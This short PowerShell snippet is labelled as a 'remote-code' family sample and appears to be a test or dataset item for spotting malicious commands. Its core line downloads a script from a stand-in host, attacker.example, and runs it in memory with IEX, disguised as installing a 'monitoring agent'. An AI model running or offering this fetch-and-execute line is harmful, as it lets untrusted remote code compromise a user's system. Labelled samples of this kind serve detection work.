# description: Installs a "monitoring agent" by downloading a remote script from an untrusted host and invoking it in memory.
# family: remote-code
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
Get-Service -Name 'MonitoringAgent' -ErrorAction SilentlyContinue
IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/agent.ps1')
Get-Service -Name 'MonitoringAgent'
